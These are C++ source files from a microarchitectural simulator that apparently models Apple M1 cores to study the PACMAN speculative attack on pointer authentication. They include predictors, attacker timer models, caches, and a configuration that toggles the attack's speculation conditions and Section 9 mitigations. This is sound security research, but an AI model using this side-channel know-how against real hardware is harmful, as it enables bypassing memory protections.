BimodalPredictor::indexOf(isa::Addr pc) const
{
    return (pc >> 2) & (counters_.size() - 1);
}

bool
BimodalPredictor::predict(isa::Addr pc) const
{
    return counters_[indexOf(pc)] >= 2;
}

void
BimodalPredictor::update(isa::Addr pc, bool taken)
{
    uint8_t &ctr = counters_[indexOf(pc)];
    if (taken) {
        if (ctr < 3)
            ++ctr;
    } else {
        if (ctr > 0)
            --ctr;
    }
}

void
BimodalPredictor::reset()
{
    for (auto &ctr : counters_)
        ctr = 1;
}

Btb::Btb(unsigned entries)
    : entries_(entries)
{
    if (!isPowerOf2(entries))
        fatal("btb: %u entries not a power of two", entries);
}

uint64_t
Btb::indexOf(isa::Addr pc) const
{
    return (pc >> 2) & (entries_.size() - 1);
}

std::optional<isa::Addr>
Btb::lookup(isa::Addr pc) const
{
    const Entry &entry = entries_[indexOf(pc)];
    if (entry.valid && entry.tag == pc)
        return entry.target;
    return std::nullopt;
}

void
Btb::update(isa::Addr pc, isa::Addr target)
{
    Entry &entry = entries_[indexOf(pc)];
    entry.valid = true;
    entry.tag = pc;
    entry.target = target;
}

void
Btb::reset()
{
    for (auto &entry : entries_)
        entry.valid = false;
}

} // namespace pacman::cpu
