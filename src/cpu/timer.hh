/**
 * @file
 * Timer models (the paper's Table 1 inventory):
 *
 *  - the 24 MHz generic system counter (CNTPCT_EL0, EL0-readable);
 *  - Apple's proprietary cycle/instruction counters PMC0/PMC1,
 *    gated to EL1 unless PMCR0 grants EL0 access (which the paper's
 *    kext does for reverse engineering);
 *  - the multi-thread counter: a dedicated thread incrementing a
 *    shared variable. Modelled as an uncacheable device page whose
 *    value advances at a sub-cycle rate with jitter — the increment
 *    loop's throughput on the second core — calibrated so the
 *    distributions of Figure 7(b) (dTLB hit <= 27, miss >= 32,
 *    threshold 30) reproduce.
 */

#ifndef PACMAN_CPU_TIMER_HH
#define PACMAN_CPU_TIMER_HH

#include <cstdint>

#include "base/random.hh"
#include "mem/hierarchy.hh"

namespace pacman::cpu
{

/**
 * The shared-variable counter maintained by the dedicated timer
 * thread (paper Figure 4). Mapped into the attacker's address space
 * as a device page; reads return the counter value at the time the
 * load executes.
 */
class ThreadTimerDevice : public mem::Device
{
  public:
    /**
     * @param cycle            Pointer to the core's cycle counter.
     * @param incrementsPer1k  Counter increments per 1000 core
     *                         cycles (the timer thread's loop
     *                         throughput). 450 reproduces Figure 7(b).
     * @param jitter           Max +/- jitter, in counts, per read
     *                         (scheduling and coherence noise).
     * @param rng              Noise source.
     */
    ThreadTimerDevice(const uint64_t *cycle, uint64_t incrementsPer1k,
                      uint64_t jitter, Random *rng);

    uint64_t read(uint64_t offset, unsigned size) override;
    void write(uint64_t offset, uint64_t value, unsigned size) override;

    /** Counter value at @p cycle with jitter applied. */
    uint64_t valueAt(uint64_t cycle);

  private:
    const uint64_t *cycle_;
    uint64_t incrementsPer1k_;
    uint64_t jitter_;
    Random *rng_;
    uint64_t lastValue_ = 0; //!< monotonicity guard under jitter
};

} // namespace pacman::cpu

#endif // PACMAN_CPU_TIMER_HH
