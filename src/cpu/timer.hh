/**
 * @file
 * Timer models (the paper's Table 1 inventory):
 *
 *  - the 24 MHz generic system counter (CNTPCT_EL0, EL0-readable);
 *  - Apple's proprietary cycle/instruction counters PMC0/PMC1,
 *    gated to EL1 unless PMCR0 grants EL0 access (which the paper's
 *    kext does for reverse engineering);
 *  - the multi-thread counter: a dedicated thread incrementing a
 *    shared variable. Modelled as an uncacheable device page whose
 *    value advances at a sub-cycle rate with jitter — the increment
 *    loop's throughput on the second core — calibrated so the
 *    distributions of Figure 7(b) (dTLB hit <= 27, miss >= 32,
 *    threshold 30) reproduce.
 */

#ifndef PACMAN_CPU_TIMER_HH
#define PACMAN_CPU_TIMER_HH

#include <cstdint>

#include "base/random.hh"
#include "mem/hierarchy.hh"

namespace pacman::cpu
{

/**
 * The shared-variable counter maintained by the dedicated timer
 * thread (paper Figure 4). Mapped into the attacker's address space
 * as a device page; reads return the counter value at the time the
 * load executes.
 */
class ThreadTimerDevice : public mem::Device
{
  public:
    /**
     * @param cycle            Pointer to the core's cycle counter.
     * @param incrementsPer1k  Counter increments per 1000 core
     *                         cycles (the timer thread's loop
     *                         throughput). 450 reproduces Figure 7(b).
     * @param jitter           Max +/- jitter, in counts, per read
     *                         (scheduling and coherence noise).
     * @param rng              Noise source.
     */
    ThreadTimerDevice(const uint64_t *cycle, uint64_t incrementsPer1k,
                      uint64_t jitter, Random *rng);

    uint64_t read(uint64_t offset, unsigned size) override;
    void write(uint64_t offset, uint64_t value, unsigned size) override;

    /** Counter value at @p cycle with jitter applied. */
    uint64_t valueAt(uint64_t cycle);

    // --- Disturbance hooks (the fault injector's timer events) ---

    /**
     * Change the base throughput (counting-loop speed). Rebases the
     * counter at the current value so the change never makes the raw
     * value jump — a decrease would otherwise trip the monotonicity
     * clamp and freeze the counter until the new slope caught up.
     */
    void setBaseRatePer1k(uint64_t per1k);

    /**
     * Scale the effective throughput by @p permille / 1000 (rate
     * skew: the counting thread migrated to a faster/slower core).
     * Persists until the next skew; rebases like setBaseRatePer1k().
     */
    void setRateScalePermille(uint64_t permille);

    /**
     * Freeze the counter for @p cycles core cycles (the counting
     * thread was descheduled). On expiry the counter resumes from the
     * frozen value — no catch-up, matching a real counting loop that
     * simply was not running.
     */
    void injectStall(uint64_t cycles);

    /** Add +/- @p extra jitter per read for the next @p cycles. */
    void injectJitterBurst(uint64_t extra, uint64_t cycles);

    uint64_t ratePer1k() const { return basePer1k_; }
    uint64_t rateScalePermille() const { return scalePermille_; }

    /**
     * Every mutable field (the cycle pointer, jitter amplitude, and
     * RNG pointer are construction-time wiring; the jitter draws come
     * from the machine RNG, which the Machine snapshot covers).
     */
    struct Snapshot
    {
        uint64_t basePer1k = 0;
        uint64_t scalePermille = 1000;
        uint64_t baseCycle = 0;
        uint64_t baseValue = 0;
        bool stalled = false;
        uint64_t stallUntil = 0;
        uint64_t burstUntil = 0;
        uint64_t burstExtra = 0;
        uint64_t lastValue = 0;
    };

    Snapshot takeSnapshot() const
    {
        return {basePer1k_, scalePermille_, baseCycle_, baseValue_,
                stalled_, stallUntil_, burstUntil_, burstExtra_,
                lastValue_};
    }

    void restore(const Snapshot &snap)
    {
        basePer1k_ = snap.basePer1k;
        scalePermille_ = snap.scalePermille;
        baseCycle_ = snap.baseCycle;
        baseValue_ = snap.baseValue;
        stalled_ = snap.stalled;
        stallUntil_ = snap.stallUntil;
        burstUntil_ = snap.burstUntil;
        burstExtra_ = snap.burstExtra;
        lastValue_ = snap.lastValue;
    }

  private:
    void rebase(uint64_t cycle);

    const uint64_t *cycle_;
    uint64_t basePer1k_;
    uint64_t jitter_;
    Random *rng_;
    uint64_t scalePermille_ = 1000;
    uint64_t baseCycle_ = 0;  //!< counter == baseValue_ at this cycle
    uint64_t baseValue_ = 0;
    bool stalled_ = false;
    uint64_t stallUntil_ = 0;
    uint64_t burstUntil_ = 0;
    uint64_t burstExtra_ = 0;
    uint64_t lastValue_ = 0; //!< monotonicity guard under jitter
};

} // namespace pacman::cpu

#endif // PACMAN_CPU_TIMER_HH
