#include "superblock.hh"

#include "base/logging.hh"
#include "isa/encoding.hh"
#include "mem/physmem.hh"

namespace pacman::cpu
{

bool
sbKindFor(isa::Opcode op, SbOpKind *kind)
{
    switch (isa::instClass(op)) {
      case isa::InstClass::Alu:
        *kind = SbOpKind::Alu;
        return true;
      case isa::InstClass::Load:
        *kind = SbOpKind::Load;
        return true;
      case isa::InstClass::Store:
        *kind = SbOpKind::Store;
        return true;
      case isa::InstClass::PacSign:
      case isa::InstClass::PacAuth:
        *kind = SbOpKind::Pac;
        return true;
      case isa::InstClass::BranchDirect:
        *kind = SbOpKind::Branch;
        return true;
      case isa::InstClass::BranchCond:
        *kind = SbOpKind::BranchCond;
        return true;
      case isa::InstClass::System:
        if (op == isa::Opcode::MRS) {
            *kind = SbOpKind::Mrs;
            return true;
        }
        if (op == isa::Opcode::MSR) {
            *kind = SbOpKind::Msr;
            return true;
        }
        // SVC/ERET change the exception level (and the iTLB the
        // fetch replay is pinned to); HLT/BRK end the run.
        return false;
      case isa::InstClass::Barrier:
        *kind = SbOpKind::Barrier;
        return true;
      default:
        // Indirect branches (BTB, pointer authentication) belong to
        // the interpreter.
        return false;
    }
}

SuperblockCache::SuperblockCache()
    : blocks_(NumBlocks), victim_(NumSets, 0)
{
}

void
SuperblockCache::flush()
{
    for (Superblock &b : blocks_)
        b.pa = Superblock::NoPa;
}

void
buildSuperblock(Superblock &sb, const mem::PhysMem &phys,
                unsigned max_ops)
{
    const isa::Addr page_base = sb.pa & ~isa::Addr(isa::PageMask);
    int64_t off = int64_t(sb.pa & isa::PageMask);
    while (sb.ops.size() < max_ops) {
        const auto inst = isa::decode(phys.read32(page_base + off));
        if (!inst)
            break; // undecodable word: the interpreter raises it
        SbOpKind kind;
        if (!sbKindFor(inst->op, &kind))
            break;
        sb.ops.push_back({*inst, kind, uint16_t(off)});
        // Follow the trace: unconditional branches to their target,
        // conditional ones along the likely direction (backward taken
        // is a loop back-edge, forward not-taken a guard). Any step
        // off the page ends the block — one block, one page, one
        // write generation.
        int64_t next;
        if (kind == SbOpKind::Branch)
            next = off + inst->imm;
        else if (kind == SbOpKind::BranchCond && inst->imm < 0)
            next = off + inst->imm;
        else
            next = off + int64_t(isa::InstBytes);
        if (next < 0 || next >= int64_t(isa::PageSize))
            break;
        off = next;
    }
    PACMAN_ASSERT(!sb.ops.empty(),
                  "superblock built from an ineligible entry");
}

} // namespace pacman::cpu
