/**
 * @file
 * Decoded-instruction cache for the core front end.
 *
 * The attack's training loops execute a handful of hot PCs millions
 * of times; re-running `isa::decode` on every fetch dominates guest
 * execution time. This cache memoizes successful decodes keyed by the
 * instruction's *physical* address. It is a pure performance artifact:
 * the core consults it only after the architectural
 * `mem_->access(Fetch, ...)` call, so iTLB/iCache state and
 * `fetchLatency` are byte-for-byte identical with the cache on or off
 * (proved end to end by tests/runner/test_fastpath_equiv.cc).
 *
 * Coherence is validation-based rather than invalidation-based, so the
 * store hot path carries no callbacks:
 *
 *  - Self-modifying code: every entry snapshots the PhysMem write
 *    generation of its page; a store to the page bumps the generation
 *    and the next fetch sees the mismatch and re-decodes.
 *  - Remap/unmap/flushAll: the core feeds the hierarchy's fetch epoch
 *    through syncEpoch() once per fetch; any mapping change or flush
 *    bumps the epoch and drops the whole cache. (PA keying already
 *    makes remaps content-safe; the epoch makes them explicit.)
 */

#ifndef PACMAN_CPU_DECODE_CACHE_HH
#define PACMAN_CPU_DECODE_CACHE_HH

#include <cstdint>
#include <vector>

#include "isa/inst.hh"
#include "isa/pointer.hh"

namespace pacman::cpu
{

/** Two-way set-associative cache of decoded instructions, keyed by
 *  PA. Two ways (with a 1-bit LRU per set) matter: the training loop
 *  alternates between user trampoline PCs and kernel gadget PCs whose
 *  index bits coincide, and a direct-mapped array thrashes on exactly
 *  that pair-per-set pattern. */
class DecodeCache
{
  public:
    DecodeCache();

    /** A memoized decode outcome (also caches decode *failures* so
     *  wrong-path run-off into non-code bytes is memoized too). */
    struct Entry
    {
        isa::Addr pa = NoPa;
        uint64_t gen = 0;
        uint32_t word = 0;     //!< raw word (valid when undefined)
        bool undefined = false;
        isa::Inst inst;
    };

    /**
     * Cached decode outcome at @p pa, or nullptr when absent or stale
     * (the page's write generation no longer matches @p page_gen —
     * the entry is dropped on the spot).
     */
    const Entry *
    lookup(isa::Addr pa, uint64_t page_gen)
    {
        const size_t set = setOf(pa);
        for (unsigned w = 0; w < Ways; ++w) {
            Entry &e = entries_[set * Ways + w];
            if (e.pa != pa)
                continue;
            if (e.gen != page_gen) {
                e.pa = NoPa;
                return nullptr;
            }
            victim_[set] = uint8_t(w ^ 1);
            return &e;
        }
        return nullptr;
    }

    /** Memoize a successful decode. */
    void
    insert(isa::Addr pa, uint64_t page_gen, const isa::Inst &inst)
    {
        Entry &e = victimFor(pa);
        e.pa = pa;
        e.gen = page_gen;
        e.undefined = false;
        e.inst = inst;
    }

    /** Memoize a decode failure of @p word. */
    void
    insertUndefined(isa::Addr pa, uint64_t page_gen, uint32_t word)
    {
        Entry &e = victimFor(pa);
        e.pa = pa;
        e.gen = page_gen;
        e.undefined = true;
        e.word = word;
    }

    /**
     * Compare against the hierarchy's fetch epoch; flush everything
     * when it moved (page remap/unmap or a flushAll-style reset).
     */
    void
    syncEpoch(uint64_t epoch)
    {
        if (epoch != epoch_) {
            epoch_ = epoch;
            flush();
        }
    }

    /** Drop every entry. */
    void flush();

    static constexpr size_t NumEntries = 8192; //!< total, power of two
    static constexpr unsigned Ways = 2;
    static constexpr size_t NumSets = NumEntries / Ways;

    static constexpr isa::Addr NoPa = ~isa::Addr(0);

  private:
    static size_t
    setOf(isa::Addr pa)
    {
        // Fold page-number bits into the index: hot code regions
        // (trampolines, eviction stubs) sit at identical page offsets
        // across many pages, which a pure offset index would alias
        // into a handful of sets.
        return (size_t(pa >> 2) ^ size_t(pa >> isa::PageShift) ^
                size_t(pa >> (2 * isa::PageShift))) &
               (NumSets - 1);
    }

    /** Pick the fill slot for @p pa: its own way if present, else an
     *  empty way, else the set's LRU victim. Updates the LRU bit. */
    Entry &
    victimFor(isa::Addr pa)
    {
        const size_t set = setOf(pa);
        unsigned pick = victim_[set];
        for (unsigned w = 0; w < Ways; ++w) {
            Entry &e = entries_[set * Ways + w];
            if (e.pa == pa || e.pa == NoPa) {
                pick = w;
                break;
            }
        }
        victim_[set] = uint8_t(pick ^ 1);
        return entries_[set * Ways + pick];
    }

    std::vector<Entry> entries_;
    std::vector<uint8_t> victim_;
    uint64_t epoch_ = 0;
};

} // namespace pacman::cpu

#endif // PACMAN_CPU_DECODE_CACHE_HH
