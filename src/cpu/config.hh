/**
 * @file
 * Core (pipeline) configuration.
 *
 * Defaults approximate the M1 Firestorm core where the paper depends
 * on its behaviour: a very large speculation window, aggressive
 * branch prediction across nested branches, eager squash on branch
 * resolution, and speculative issue of memory operations. Each of the
 * attack's necessary conditions is an explicit switch so Section 9's
 * countermeasures can be evaluated as ablations.
 */

#ifndef PACMAN_CPU_CONFIG_HH
#define PACMAN_CPU_CONFIG_HH

#include <cstdint>

namespace pacman::cpu
{

/** Pipeline and speculation parameters. */
struct CoreConfig
{
    // --- Widths and windows ---
    unsigned fetchWidth = 8;    //!< instructions fetched per cycle
    unsigned robSize = 630;     //!< Firestorm-class reorder buffer

    // --- Operation latencies (cycles) ---
    uint64_t aluLat = 1;
    uint64_t mulLat = 3;
    uint64_t pacLat = 5;        //!< QARMA pipeline depth
    uint64_t branchResolveLat = 2;  //!< operand-ready to redirect
    uint64_t mrsLat = 3;
    uint64_t redirectPenalty = 10;  //!< squash + refetch bubble
    uint64_t isbDrain = 25;     //!< full pipeline drain on ISB;
                                //!< calibrated so the serialized
                                //!< measurement sequences land on the
                                //!< paper's ~60/80/95/115 cy plateaus
    uint64_t svcLat = 60;       //!< EL0 -> EL1 transition cost
    uint64_t eretLat = 50;      //!< EL1 -> EL0 return cost

    // --- Speculation behaviour (the attack's necessary conditions) ---

    /** Loads/stores may issue before older branches resolve. */
    bool speculativeMemIssue = true;

    /**
     * A nested mispredicted branch is squashed as soon as it
     * resolves, redirecting fetch to its computed target while older
     * branches are still unresolved (Section 4.2's requirement for
     * the instruction PACMAN gadget).
     */
    bool eagerNestedSquash = true;

    /** Faults on squashed paths are suppressed (crash suppression). */
    bool faultSuppression = true;

    // --- Section 9 mitigations (default off) ---

    /**
     * PAC-agnostic execution: an implicit fence after every aut
     * instruction; its result cannot be consumed speculatively.
     */
    bool autFence = false;

    /**
     * STT-style taint: outputs of pointer-authentication instructions
     * are tainted and may not form speculative load/store/branch
     * addresses until the instruction is no longer speculative.
     */
    bool pacTaint = false;

    /**
     * ARMv8.6 FPAC: a failing aut instruction faults immediately
     * instead of producing a poisoned pointer. Note this does NOT
     * stop PACMAN: the speculative fault is still suppressed on
     * squash, and the presence/absence of the transmission access
     * still leaks the verification result (the paper's authors later
     * demonstrated exactly this on the FPAC-enabled M2).
     */
    bool fpac = false;

    // --- Branch prediction ---
    unsigned bimodalEntries = 4096; //!< 2-bit counters
    unsigned btbEntries = 1024;

    // --- Performance (non-architectural) ---

    /**
     * Memoize decoded instructions by physical address (skips
     * isa::decode on hot PCs). Purely a host-side speedup — fetch
     * timing and hierarchy state are identical either way; see
     * cpu/decode_cache.hh. Defaults off in PACMAN_DISABLE_FASTPATH
     * builds so the sanitizer CI leg runs the reference path.
     */
#ifdef PACMAN_DISABLE_FASTPATH
    bool decodeCache = false;
#else
    bool decodeCache = true;
#endif

    /**
     * Execute straight-line runs of committed instructions as cached
     * superblocks via a threaded dispatch loop that skips the
     * per-instruction fetch/decode machinery while replaying its
     * exact microarchitectural side effects (see cpu/superblock.hh).
     * Architectural state, cycle counts and cache/TLB counters are
     * bit-identical either way; independent of decodeCache (either
     * toggles alone). Defaults off in PACMAN_DISABLE_FASTPATH builds
     * so the sanitizer/reference CI legs run the plain interpreter.
     */
#ifdef PACMAN_DISABLE_FASTPATH
    bool superblocks = false;
#else
    bool superblocks = true;
#endif

    /** Longest superblock, in instructions. */
    unsigned superblockMaxOps = 64;

    /**
     * Memoize each superblock's data-side hierarchy walk as a
     * *timing trace*: on first execution, record per memory op the
     * dTLB way and L1D line it hit plus the address it resolved; on
     * re-dispatch, while the per-set generation labels of every
     * touched set still hold (and the entry EL and address registers
     * match), skip the translation + cache walk entirely and replay
     * the recorded hits via Tlb/Cache::rehit — bit-identical LRU
     * stamps, hit counters, latencies and values (see cpu/
     * superblock.hh). Only consulted when superblocks is on. Defaults
     * off in PACMAN_DISABLE_FASTPATH builds with the rest of the
     * fast path, and under PACMAN_DISABLE_TIMING_TRACES alone (the
     * no-traces CI leg: superblocks run every walk live so a replay
     * bug cannot hide behind its own default).
     */
#if defined(PACMAN_DISABLE_FASTPATH) || \
    defined(PACMAN_DISABLE_TIMING_TRACES)
    bool timingTraces = false;
#else
    bool timingTraces = true;
#endif

    // --- Timers ---
    uint64_t cpuFreqHz = 3'200'000'000; //!< nominal core clock
    uint64_t cntFreqHz = 24'000'000;    //!< CNTPCT (Table 1: 24 MHz)
};

} // namespace pacman::cpu

#endif // PACMAN_CPU_CONFIG_HH
