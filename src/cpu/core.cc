#include "core.hh"

#include <algorithm>
#include <bit>

#include "base/bitfield.hh"
#include "base/logging.hh"
#include "base/stats.hh"
#include "isa/disasm.hh"
#include "isa/pointer.hh"

namespace pacman::cpu
{

using isa::Addr;
using isa::Cond;
using isa::Inst;
using isa::InstClass;
using isa::Opcode;
using isa::Pstate;
using isa::SysReg;

namespace
{

/** Result of an ALU-class execution. */
struct AluOut
{
    uint64_t value = 0;
    Pstate flags;
    bool setsFlags = false;
    bool writes = true;
};

/** Evaluate any ALU-class instruction on operand values. */
AluOut
aluExec(const Inst &inst, uint64_t rdv, uint64_t rnv, uint64_t rmv)
{
    AluOut out;
    const bool has_imm = !isa::readsRm(inst);
    const uint64_t b = has_imm ? uint64_t(inst.imm) : rmv;

    auto sub_flags = [&](uint64_t a, uint64_t s) {
        const uint64_t r = a - s;
        out.flags.n = bits(r, 63) != 0;
        out.flags.z = r == 0;
        out.flags.c = a >= s;
        out.flags.v = bits((a ^ s) & (a ^ r), 63) != 0;
        out.setsFlags = true;
        return r;
    };

    switch (inst.op) {
      case Opcode::ADD:
      case Opcode::ADDI:
        out.value = rnv + b;
        break;
      case Opcode::SUB:
      case Opcode::SUBI:
        out.value = rnv - b;
        break;
      case Opcode::AND:
      case Opcode::ANDI:
        out.value = rnv & b;
        break;
      case Opcode::ORR:
      case Opcode::ORRI:
        out.value = rnv | b;
        break;
      case Opcode::EOR:
      case Opcode::EORI:
        out.value = rnv ^ b;
        break;
      case Opcode::LSLV:
      case Opcode::LSLI:
        out.value = rnv << (b & 63);
        break;
      case Opcode::LSRV:
      case Opcode::LSRI:
        out.value = rnv >> (b & 63);
        break;
      case Opcode::ASRV:
      case Opcode::ASRI:
        out.value = uint64_t(int64_t(rnv) >> (b & 63));
        break;
      case Opcode::MUL:
        out.value = rnv * b;
        break;
      case Opcode::SUBS:
      case Opcode::SUBSI:
        out.value = sub_flags(rnv, b);
        break;
      case Opcode::ADDS: {
        const uint64_t r = rnv + b;
        out.flags.n = bits(r, 63) != 0;
        out.flags.z = r == 0;
        out.flags.c = r < rnv;
        out.flags.v = bits(~(rnv ^ b) & (rnv ^ r), 63) != 0;
        out.setsFlags = true;
        out.value = r;
        break;
      }
      case Opcode::CMP:
      case Opcode::CMPI:
        sub_flags(rnv, b);
        out.writes = false;
        break;
      case Opcode::MOVR:
        out.value = rnv;
        break;
      case Opcode::NOP:
        out.writes = false;
        break;
      case Opcode::MOVZ:
        out.value = uint64_t(inst.imm) << (16 * inst.hw);
        break;
      case Opcode::MOVK: {
        const unsigned shift = 16 * inst.hw;
        out.value = (rdv & ~(0xffffull << shift)) |
                    (uint64_t(inst.imm) << shift);
        break;
      }
      default:
        panic("aluExec: %s is not an ALU op",
              isa::opcodeName(inst.op).c_str());
    }
    return out;
}

/** Access size in bytes for a memory opcode. */
unsigned
memSize(Opcode op)
{
    return (op == Opcode::LDRB || op == Opcode::STRB) ? 1 : 8;
}

/** Whether this memory op carries a register offset. */
bool
regOffset(Opcode op)
{
    return op == Opcode::LDRR || op == Opcode::STRR;
}

} // anonymous namespace

Core::Core(const CoreConfig &cfg, mem::MemoryHierarchy *mem, Random *rng)
    : cfg_(cfg), mem_(mem), rng_(rng),
      predictor_(cfg.bimodalEntries), btb_(cfg.btbEntries)
{
    sysregs_[size_t(SysReg::CNTFRQ_EL0)] = cfg.cntFreqHz;
}

uint64_t
Core::reg(unsigned idx) const
{
    PACMAN_ASSERT(idx < isa::NumRegs, "register %u out of range", idx);
    return regs_[idx];
}

void
Core::setReg(unsigned idx, uint64_t value)
{
    PACMAN_ASSERT(idx < isa::NumRegs, "register %u out of range", idx);
    regs_[idx] = value;
    ready_[idx] = cycle_;
}

void
Core::setEl(unsigned el)
{
    PACMAN_ASSERT(el <= 1, "exception level %u unsupported", el);
    el_ = el;
}

uint64_t
Core::sysreg(SysReg reg) const
{
    return sysregs_[size_t(reg)];
}

void
Core::setSysreg(SysReg reg, uint64_t value)
{
    sysregs_[size_t(reg)] = value;
}

crypto::PacKey
Core::pacKey(crypto::PacKeySelect sel) const
{
    const size_t base = size_t(SysReg::APIAKEY_LO) + 2 * size_t(sel);
    return crypto::PacKey{sysregs_[base + 1], sysregs_[base]};
}

uint64_t
Core::ccsidrValue() const
{
    // ARM-style CCSIDR: LineSize[2:0] = log2(bytes) - 4,
    // Associativity[12:3] = ways - 1, NumSets[27:13] = sets - 1.
    // Reports the *architectural* L1D geometry, which the paper finds
    // to be twice the observed associativity (footnote 5).
    const auto &cfg = mem_->config();
    const uint64_t sel = sysregs_[size_t(SysReg::CSSELR_EL1)];
    const bool icache = sel & 1;
    const unsigned level = unsigned(sel >> 1);

    unsigned ways, sets, line;
    if (level == 0 && icache) {
        ways = cfg.l1i.ways;
        sets = cfg.l1i.sets;
        line = cfg.l1i.lineBytes;
    } else if (level == 0) {
        ways = cfg.l1dArchWays;
        sets = cfg.l1dArchSets;
        line = cfg.l1d.lineBytes;
    } else {
        ways = cfg.l2.ways;
        sets = cfg.l2.sets;
        line = cfg.l2.lineBytes;
    }
    return uint64_t(floorLog2(line) - 4) | (uint64_t(ways - 1) << 3) |
           (uint64_t(sets - 1) << 13);
}

uint64_t
Core::sysregRead(SysReg reg, uint64_t when, bool *undef)
{
    *undef = false;

    // Privilege gating (Table 1 semantics).
    if (el_ == 0 && !isa::sysRegEl0Readable(reg)) {
        const bool pmc = reg == SysReg::PMC0 || reg == SysReg::PMC1;
        const bool granted =
            sysregs_[size_t(SysReg::PMCR0)] & isa::PMCR0_EL0_ACCESS;
        if (!(pmc && granted)) {
            *undef = true;
            return 0;
        }
    }

    switch (reg) {
      case SysReg::CNTPCT_EL0:
        // 24 MHz system counter derived from the core clock.
        return when / (cfg_.cpuFreqHz / cfg_.cntFreqHz);
      case SysReg::CNTFRQ_EL0:
        return cfg_.cntFreqHz;
      case SysReg::PMC0:
        return when;
      case SysReg::PMC1:
        return stats_.instsRetired;
      case SysReg::CURRENT_EL:
        return uint64_t(el_) << 2;
      case SysReg::CCSIDR_EL1:
        return ccsidrValue();
      case SysReg::CLIDR_EL1:
        // L1 split I+D, L2 unified: Ctype1 = 0b011, Ctype2 = 0b100.
        return 0b011ull | (0b100ull << 3);
      default:
        return sysregs_[size_t(reg)];
    }
}

bool
Core::sysregWrite(SysReg reg, uint64_t value)
{
    if (el_ == 0)
        return false; // all MSR targets are privileged
    switch (reg) {
      case SysReg::CNTPCT_EL0:
      case SysReg::CNTFRQ_EL0:
      case SysReg::PMC0:
      case SysReg::PMC1:
      case SysReg::CURRENT_EL:
      case SysReg::CCSIDR_EL1:
      case SysReg::CLIDR_EL1:
        return false; // read-only
      default:
        sysregs_[size_t(reg)] = value;
        return true;
    }
}

void
Core::setTraceHook(std::function<void(const TraceRecord &)> hook)
{
    traceHook_ = std::move(hook);
}

Core::Snapshot
Core::takeSnapshot() const
{
    Snapshot snap;
    snap.regs = regs_;
    snap.flags = flags_;
    snap.pc = pc_;
    snap.el = el_;
    snap.sysregs = sysregs_;
    snap.cycle = cycle_;
    snap.ready = ready_;
    snap.flagsReady = flagsReady_;
    snap.lastCompletion = lastCompletion_;
    snap.fetchGroup = fetchGroup_;
    snap.predictor = predictor_.takeSnapshot();
    snap.btb = btb_.takeSnapshot();
    snap.stats = stats_;
    return snap;
}

void
Core::restore(const Snapshot &snap)
{
    regs_ = snap.regs;
    flags_ = snap.flags;
    pc_ = snap.pc;
    el_ = snap.el;
    sysregs_ = snap.sysregs;
    cycle_ = snap.cycle;
    ready_ = snap.ready;
    flagsReady_ = snap.flagsReady;
    lastCompletion_ = snap.lastCompletion;
    fetchGroup_ = snap.fetchGroup;
    predictor_.restore(snap.predictor);
    btb_.restore(snap.btb);
    stats_ = snap.stats;
    // The decode cache and superblock cache deliberately survive the
    // rewind (pure host-side memoization with no architectural or
    // timing effect; re-decoding/re-discovering all guest code per
    // restore would dominate the restore-per-item fast path). This is
    // safe because entries are PA-keyed and validated against page
    // write generations, and every generation label is permanently
    // bound to exactly one byte image — PhysMem::restore rewinds a
    // dirtied page to the captured label along with the captured
    // bytes, so a generation match always implies identical bytes and
    // a stale entry can never re-validate. sbStats_ is likewise
    // untouched: it is monotonic telemetry, not run state (see
    // SuperblockStats).
}

void
Core::serialize(uint64_t extra)
{
    cycle_ = std::max(cycle_, lastCompletion_) + extra;
    fetchGroup_ = 0;
}

Core::FetchedInst
Core::fetch(Addr pc, bool speculative)
{
    FetchedInst out;
    const auto res =
        mem_->access(mem::AccessKind::Fetch, pc, el_, speculative);
    if (res.fault != mem::Fault::None) {
        out.fault = res.fault;
        return out;
    }
    out.fetchLatency = res.latency;

    // PA + page write generation for the fast-path caches (decoded-
    // instruction cache here, superblock dispatch in run()). Device
    // pages are never executable, so res.isDevice cannot be set here;
    // the check keeps the value path honest regardless.
    const bool cacheable =
        (cfg_.decodeCache || cfg_.superblocks) && !res.isDevice;
    uint64_t page_gen = 0;
    if (cacheable) {
        page_gen = mem_->phys().pageGen(res.pa);
        out.hasPa = true;
        out.pa = res.pa;
        out.pageGen = page_gen;
    }

    // Decoded-instruction cache: consulted strictly after the
    // architectural access() above, so hierarchy state and latency
    // are identical whether it hits, misses, or is disabled. A hit
    // skips only the (state-free) value load and isa::decode.
    const bool memoize = cfg_.decodeCache && cacheable;
    if (memoize) {
        decodeCache_.syncEpoch(mem_->fetchEpoch());
        if (const auto *hit = decodeCache_.lookup(res.pa, page_gen)) {
            ++stats_.icacheDecodeHits;
            ++sbStats_.decodeHits;
            if (hit->undefined) {
                out.undefined = true;
                out.word = hit->word;
                return out;
            }
            out.ok = true;
            out.inst = hit->inst;
            return out;
        }
        ++stats_.icacheDecodeMisses;
        ++sbStats_.decodeMisses;
    }

    const uint32_t word = uint32_t(mem_->loadValue(res, pc, 4));
    const auto inst = isa::decode(word);
    if (!inst) {
        if (memoize)
            decodeCache_.insertUndefined(res.pa, page_gen, word);
        out.undefined = true;
        out.word = word;
        return out;
    }
    if (memoize)
        decodeCache_.insert(res.pa, page_gen, *inst);
    out.ok = true;
    out.inst = *inst;
    return out;
}

ExitStatus
Core::archFault(mem::Fault fault, Addr addr, const char *what)
{
    ExitStatus status;
    status.kind = el_ == 0 ? ExitKind::CrashEl0 : ExitKind::KernelPanic;
    status.pc = pc_;
    status.fault = fault;
    status.reason = strprintf(
        "%s at pc=0x%llx addr=0x%llx (%s, EL%u)", what,
        (unsigned long long)pc_, (unsigned long long)addr,
        fault == mem::Fault::Permission ? "permission" : "translation",
        el_);
    return status;
}

void
Core::execAlu(const Inst &inst)
{
    uint64_t src_ready = cycle_ + 1;
    if (isa::readsRn(inst))
        src_ready = std::max(src_ready, ready_[inst.rn]);
    if (isa::readsRm(inst))
        src_ready = std::max(src_ready, ready_[inst.rm]);
    if (isa::readsRdAsSource(inst))
        src_ready = std::max(src_ready, ready_[inst.rd]);
    const AluOut out = aluExec(inst, regs_[inst.rd],
                               regs_[inst.rn], regs_[inst.rm]);
    const uint64_t lat =
        inst.op == Opcode::MUL ? cfg_.mulLat : cfg_.aluLat;
    const uint64_t done = src_ready + lat;
    if (out.writes) {
        regs_[inst.rd] = out.value;
        ready_[inst.rd] = done;
    }
    if (out.setsFlags) {
        flags_ = out.flags;
        flagsReady_ = done;
    }
    lastCompletion_ = std::max(lastCompletion_, done);
}

bool
Core::execMem(const Inst &inst, ExitStatus *status)
{
    const bool is_load = isa::instClass(inst.op) == InstClass::Load;
